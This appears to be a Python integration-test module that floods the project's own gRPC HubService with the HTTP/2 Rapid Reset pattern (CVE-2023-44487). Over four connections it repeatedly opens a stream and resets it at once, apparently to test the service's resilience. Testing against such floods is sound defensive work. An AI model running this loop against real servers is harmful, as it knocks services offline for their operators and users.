"""A member begins calls and takes them back at once (CVE-2023-44487)."""

from __future__ import annotations

from tests.integration.floods.attacks.again_and_again import on_each
from tests.integration.floods.attacks.place import Place
from tests.integration.floods.attacks.wire import Wire

CALLER = "insurance"


def flood(place: Place) -> None:
    on_each(place, 4, _begin_and_reset)


def _begin_and_reset(wire: Wire) -> None:
    while wire.is_open:
        wire.reset(wire.begin("/warifu.api.hub.v1.HubService/Exchange", content=b""))
